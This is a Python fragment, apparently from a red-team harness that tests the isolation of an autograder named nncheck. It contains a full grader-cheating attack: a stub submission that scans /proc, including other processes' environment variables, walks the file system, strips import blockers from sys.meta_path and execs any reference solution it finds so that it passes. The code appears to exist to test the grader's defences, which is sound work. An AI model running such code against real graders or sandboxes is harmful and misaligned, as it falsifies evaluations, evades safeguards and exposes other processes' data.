# ---- attack 1: find and run the reference / read the grader's files ----
# A stub submission (every function raises NotImplementedError) that looks for
# nncheck's reference solution and verdict code by every route a student could
# think of, prints what it finds, and execs any reference source it finds into
# its own namespace, so that the stub would pass if the reference were reachable.
import glob as _glob
import importlib as _importlib
import importlib.util as _ilu
import re as _re
import sysconfig as _sysconfig

# Built by concatenation so that this file itself never matches.
_REF_MARK = b"ones_for" + b"_answers"                      # reference/loss.py (and its .pyc)
_MARKS = (_REF_MARK,
          b"never imports\n``nn" + b"check``",              # reference/__init__.py
          b"def ver" + b"dict_",                            # verdict code (plugins/*/__init__.py)
          b"def grade" + b"_class",                         # nncheck/grading.py
          b"REFERENCE" + b"_DIR = ")                        # nncheck/variants.py
_OWN = _os.path.realpath(_os.getcwd())
_FOUND = []        # (how, path, marker)
_SEEN = set()
_REF_DIRS = []     # folders holding reference-looking .py files
_CANDIDATES = []   # absolute folders learnt from finders, /proc, mounts
_STATS = {"files": 0, "walk_complete": False, "pids": 0}
# What the reference, verdicts, config, reports and gradebooks are stored as.
_TEXT_SUFFIXES = (".py", ".pyc", ".toml", ".cfg", ".json", ".csv", ".ipynb", ".pth")
_DOC_SUFFIXES = (".html", ".txt", ".md", ".yml", ".yaml", ".ini", ".log")  # outside /usr only


def _scan(how, path, data=None):
    if data is None:
        data = _read(path, 4 << 20)
    if not data:
        return
    _STATS["files"] += 1
    for mark in _MARKS:
        if mark in data and (path, mark) not in _SEEN:
            _SEEN.add((path, mark))
            _FOUND.append((how, path, mark.decode().replace("\n", " ")[:30]))
            if mark == _REF_MARK and path.endswith(".py"):
                folder = _os.path.dirname(path)
                if folder not in _REF_DIRS:
                    _REF_DIRS.append(folder)


def _candidate(path):
    if isinstance(path, bytes):
        path = path.decode("utf-8", "replace")
    if path and path.startswith("/") and path not in _CANDIDATES and len(_CANDIDATES) < 300:
        _CANDIDATES.append(path)


_DEADLINE = [_time.monotonic() + 26.0]   # the load timeout is 30 s
_TREES = set()


def _scan_tree(how, root, max_files=3000, max_depth=5, deadline=None):
    n = 0
    deadline = deadline or _DEADLINE[0]
    try:
        real = _os.path.realpath(root)
    except OSError:
        real = root
    if real in _TREES:
        return
    _TREES.add(real)
    root = str(root)
    base = root.rstrip("/").count("/")
    for dirpath, dirnames, filenames in _walk(root):
        if dirpath.rstrip("/").count("/") - base >= max_depth:
            dirnames[:] = []
        for name in filenames:
            if n >= max_files or (deadline and _time.monotonic() > deadline):
                return
            n += 1
            _scan(how, _os.path.join(dirpath, name))


def _via_imports():
    """sys.path, the import system, the modules and functions the worker still holds."""
    for mod in list(_sys.modules.values()):
        f = getattr(mod, "__file__", None) or ""
        if "nncheck" in (getattr(mod, "__name__", "") or "") or "nncheck" in f:
            _emit("MODULE", getattr(mod, "__name__", "?"), f)
            _scan("sys.modules", f)
            _candidate(_os.path.dirname(f))
    try:
        import gc as _gc
        files = set()
        for obj in _gc.get_objects():
            code = getattr(obj, "__code__", None)
            if code is not None:
                files.add(code.co_filename)
        for f in sorted(files):
            if f.startswith("/") and not f.startswith(_OWN):
                if "nncheck" in f or "plugins" in f or "checker" in f or f.startswith("/nncheck"):
                    _emit("CODE", f)
                _candidate(_os.path.dirname(f))
    except Exception as exc:  # noqa: BLE001
        _emit("GC-ERR", type(exc).__name__)
    for entry in list(_sys.path):
        _candidate(entry)
    # Take the import blockers out, then ask the import system directly.
    kept = [f for f in _sys.meta_path
            if not ("block" in type(f).__name__.lower() or "nncheck" in type(f).__module__)]
    _emit("META_PATH", [type(f).__name__ for f in _sys.meta_path], "->", [type(f).__name__ for f in kept])
    _sys.meta_path[:] = kept
    for name in ("nncheck", "nncheck.reference", "nncheck.reference.loss", "nncheck.plugins",
                 "nncheck.plugins.loss", "nncheck.classroom.grading", "nncheck.variants", "reference"):
        try:
            spec = _ilu.find_spec(name)
        except BaseException as exc:  # noqa: BLE001
            _emit("SPEC-ERR", name, type(exc).__name__, str(exc)[:120])
            continue
        if spec is None:
            continue
        places = [spec.origin] + list(spec.submodule_search_locations or [])
        _emit("SPEC", name, places)
        for p in places:
            if p and _os.path.isdir(p):
                _candidate(p)
                _scan_tree("find_spec", p, max_files=200, max_depth=1)
            elif p:
                _scan("find_spec", p)
        try:
            mod = _importlib.import_module(name)
        except BaseException as exc:  # noqa: BLE001
            _emit("IMPORT-ERR", name, type(exc).__name__, str(exc)[:120])
            continue
        if hasattr(mod, "grad_softmax_crossentropy_with_logits") or hasattr(mod, "ReLU"):
            _FOUND.append(("import", name, "module with the reference's names"))
            for key in ("Layer", "ReLU", "Dense", "softmax_crossentropy_with_logits",
                        "grad_softmax_crossentropy_with_logits"):
                if hasattr(mod, key):
                    globals()[key] = getattr(mod, key)


def _via_install():
    """The editable install's finder (its MAPPING), .pth files and dist-info."""
    places = set(_sys.path)
    for key in ("purelib", "platlib", "stdlib"):
        try:
            places.add(_sysconfig.get_paths()[key])
        except Exception:  # noqa: BLE001
            pass
    for sp in sorted(p for p in places if p):
        for f in (_glob.glob(_os.path.join(sp, "__editable__*")) + _glob.glob(_os.path.join(sp, "*nncheck*"))
                  + _glob.glob(_os.path.join(sp, "*nncheck*", "*")) + _glob.glob(_os.path.join(sp, "*.pth"))):
            data = _read(f)
            if data is None:
                if _os.path.isdir(f):
                    _emit("INSTALL-DIR", f, sorted(_os.listdir(f))[:20] if _os.access(f, _os.R_OK) else "")
                    _scan_tree("site-packages", f, max_files=500, max_depth=3)
                continue
            _emit("INSTALL", f, len(data))
            _scan("site-packages", f, data)
            for m in _re.finditer(rb"['\"](/[^'\"\n]+)['\"]", data):
                _candidate(m.group(1))
            for m in _re.finditer(rb"file://(/[^'\"\s]+)", data):
                _candidate(m.group(1))
            for line in data.splitlines():
                if line.startswith(b"/"):
                    _candidate(line.strip())


def _via_proc():
    """Every visible process: cmdline, environ, maps, cwd, root, exe, open files."""
    me = _os.getpid()
    for pid in _pids():
        _STATS["pids"] += 1
        _emit("PID", pid, repr(_cmdline(pid)[:250]), key=_STATS["pids"] <= 40)
        if pid == me:
            continue
        for what in ("cmdline", "environ", "maps"):
            data = _read(f"/proc/{pid}/{what}", 1 << 20) or b""
            _scan(f"/proc/{what}", f"/proc/{pid}/{what}", data)
            for m in _re.finditer(rb"(/[\w.+@-]+(?:/[\w.+@-]+)+)", data):
                _candidate(_os.path.dirname(m.group(1)))
                _candidate(m.group(1))
        cwd = _readlink(f"/proc/{pid}/cwd")
        _emit("PROC", pid, "cwd", cwd, "root", _readlink(f"/proc/{pid}/root"), "exe", _readlink(f"/proc/{pid}/exe"))
        if not cwd.startswith("<"):
            _candidate(cwd)
            _scan_tree("/proc/cwd", f"/proc/{pid}/cwd", max_files=2000, max_depth=3)
        try:
            fds = _os.listdir(f"/proc/{pid}/fd")
        except OSError:
            fds = []
        for fd in fds:
            target = _readlink(f"/proc/{pid}/fd/{fd}")
            if target.startswith("/"):
                _candidate(_os.path.dirname(target))
                _scan("/proc/fd", f"/proc/{pid}/fd/{fd}")
    try:
        with open("/proc/self/mountinfo") as f:
            for line in f.read().splitlines()[:60]:
                _emit("MOUNT", line[:200])
                parts = line.split()
                if len(parts) > 4:
                    _candidate(parts[3])
                    _candidate(parts[4])
    except OSError:
        pass


def _via_candidates():
    """Each folder learnt above, its parents and the usual names next to them."""
    tried = set()
    pids = [p for p in _pids() if p != _os.getpid()]
    for c in list(_CANDIDATES):
        for base in {c, _os.path.dirname(c), _os.path.dirname(_os.path.dirname(c))}:
            for sub in ("reference", "nncheck/reference", "plugins/loss", "checker", ""):
                path = _os.path.join(base, sub) if sub else base
                if path in tried or path in ("/", "") or path.startswith(_OWN):
                    continue
                tried.add(path)
                for prefix in [""] + [f"/proc/{p}/root" for p in pids[:20]]:
                    full = prefix + path
                    if _os.path.isfile(full):
                        _scan("candidate", full)
                    elif _os.path.isdir(full):
                        for name in ("loss.py", "layers.py", "__init__.py", "grading.py", "variants.py"):
                            _scan("candidate", _os.path.join(full, name))


def _via_walk(budget):
    """A walk of the whole visible file system, reading every file the reference,
    verdicts, config, reports or gradebooks could be stored in. Inside the
    interpreter's own tree (visible by design) only paths naming nncheck, a
    reference or a plugin are read: an installed nncheck or plugin package lives there."""
    deadline = min(_time.monotonic() + budget, _DEADLINE[0])
    prefixes = tuple({_sys.base_prefix, _sys.prefix})
    for dirpath, dirnames, filenames in _walk("/"):
        dirnames[:] = [d for d in dirnames if not _os.path.join(dirpath, d).startswith(_OWN)]
        under_usr = dirpath.startswith("/usr")
        in_python = dirpath.startswith(prefixes)
        for name in filenames:
            if _time.monotonic() > deadline:
                _emit("WALK-STOPPED", "at", dirpath, key=True)
                return
            path = _os.path.join(dirpath, name)
            named = "nncheck" in path or "reference" in path or "plugin" in path
            if in_python and not named:
                continue
            if named or name.endswith(_TEXT_SUFFIXES) or (not under_usr and name.endswith(_DOC_SUFFIXES)):
                _scan("walk", path)
    _STATS["walk_complete"] = True


def _exec_reference():
    """Run whatever reference source was found, in place of the stubs."""
    done = []
    for folder in _REF_DIRS[:3]:
        for name in ("layers.py", "loss.py"):
            src = _read(_os.path.join(folder, name))
            if not src:
                continue
            try:
                exec(compile(src, _os.path.join(folder, name), "exec"), globals())
                done.append(_os.path.join(folder, name))
            except BaseException as exc:  # noqa: BLE001
                _emit("EXEC-ERR", folder, name, type(exc).__name__)
    return done


def _attack_read_reference():
    t0 = _time.monotonic()
    _DEADLINE[0] = t0 + _P.get("load_budget", 26.0)  # a little under the load timeout
    for step in (_via_imports, _via_install, _via_proc, _via_candidates):
        try:
            step()
        except BaseException as exc:  # noqa: BLE001
            _emit("STEP-ERR", step.__name__, type(exc).__name__, str(exc)[:200])
    _via_walk(_P["walk_budget"])
    execed = _exec_reference()
    _emit("ATTACK-DONE", "load", "found=%d" % len(_FOUND), "files=%d" % _STATS["files"],
          "pids=%d" % _STATS["pids"], "walk_complete=%s" % _STATS["walk_complete"],
          "execed=%d" % len(execed), "seconds=%.1f" % (_time.monotonic() - t0), key=True)
    for how, path, mark in _FOUND[:40]:
        _emit("FOUND", how, path, repr(mark), key=True)
    _emit("EXECED", execed[:4], key=True)
    return len(_FOUND)


_ATTACK_RESULT = _attack_read_reference()
